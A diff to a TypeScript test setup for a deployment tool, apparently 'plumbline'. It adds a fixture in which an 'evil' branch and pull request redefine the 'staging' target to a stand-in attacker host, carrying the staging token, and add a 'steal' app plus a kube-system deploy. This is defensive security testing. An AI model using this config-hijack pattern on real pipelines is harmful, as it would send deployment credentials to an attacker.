@@ -12,31 +12,9 @@ import { WORKERS_TEST, type WorkersFixture } from './fixtures.ts';
 
 const ZERO_SHA = '0'.repeat(40);
 
-function plumblineYaml(namespace: string, server: string, caPem: string): string {
-  const ca = caPem
-    .trim()
-    .split('\n')
-    .map((line) => `      ${line}`)
-    .join('\n');
-  return `targets:
-  - name: staging
-    server: https://${WORKERS_TEST.tunnelHost}
-    credentials:
-      token:
-        secret: staging-token
-  - name: down
-    server: https://${WORKERS_TEST.downHost}
-    credentials:
-      token:
-        secret: staging-token
-  - name: onprem
-    server: ${server}
-    ca: |
-${ca}
-    credentials:
-      token:
-        secret: staging-token
-apps:
+/** The repository's configuration: apps only, naming the operator's bindings. */
+function plumblineYaml(namespace: string): string {
+  return `apps:
   - name: web
     path: apps/web
     target: staging
@@ -67,13 +45,34 @@ export default async function setup(project: TestProject): Promise<() => Promise
   const namespace = `workers-${Date.now().toString(36)}`;
   git = TestGitRepo.create();
   const head = git.commit({
-    'plumbline.yaml': plumblineYaml(
-      namespace,
-      controlPlane.cluster.server,
-      controlPlane.cluster.caPem,
-    ),
+    'plumbline.yaml': plumblineYaml(namespace),
     ...manifests(namespace),
   });
+  // A branch (and a same-repository pull request from it) whose plumbline.yaml redefines the
+  // target `staging` at the attacker and adds an app that tracks the branch.
+  const evil = git.commit(
+    {
+      'plumbline.yaml': `targets:
+  - name: staging
+    server: https://${WORKERS_TEST.attackerHost}
+    credentials:
+      token:
+        secret: staging-token
+apps:
+  - name: web
+    path: apps/web
+    target: staging
+    namespace: kube-system
+  - name: steal
+    path: apps/web
+    target: staging
+    namespace: ${namespace}
+    branch: evil
+`,
+    },
+    'evil',
+    'evil',
+  );
   github = await startGitHubServer({
     repos: { [WORKERS_TEST.repo]: git },
     token: WORKERS_TEST.githubToken,
@@ -92,6 +91,20 @@ export default async function setup(project: TestProject): Promise<() => Promise
     before: ZERO_SHA,
     after: head,
   });
+  const pushEvil = await pushDelivery({
+    secret: WORKERS_TEST.webhookSecret,
+    repo: WORKERS_TEST.repo,
+    branch: 'evil',
+    before: ZERO_SHA,
+    after: evil,
+  });
+  github.openPullRequest(WORKERS_TEST.repo, { number: 9, headRef: 'evil' });
+  const pullRequestEvil = await pullRequestDelivery(
+    WORKERS_TEST.webhookSecret,
+    WORKERS_TEST.repo,
+    'opened',
+    { number: 9, headSha: evil, headRef: 'evil' },
+  );
   const pullRequestOpened = await pullRequestDelivery(
     WORKERS_TEST.webhookSecret,
     WORKERS_TEST.repo,
@@ -113,7 +126,10 @@ export default async function setup(project: TestProject): Promise<() => Promise
       push: { headers: push.headers, body: push.body },
       pushOtherRepo: { headers: pushOtherRepo.headers, body: pushOtherRepo.body },
       pullRequestOpened: { headers: pullRequestOpened.headers, body: pullRequestOpened.body },
+      pushEvil: { headers: pushEvil.headers, body: pushEvil.body },
+      pullRequestEvil: { headers: pullRequestEvil.headers, body: pullRequestEvil.body },
     },
+    attackerHost: WORKERS_TEST.attackerHost,
   };
   project.provide('workers', fixture);
   // The edge (Access + Tunnel) in the config reaches the API server through this.
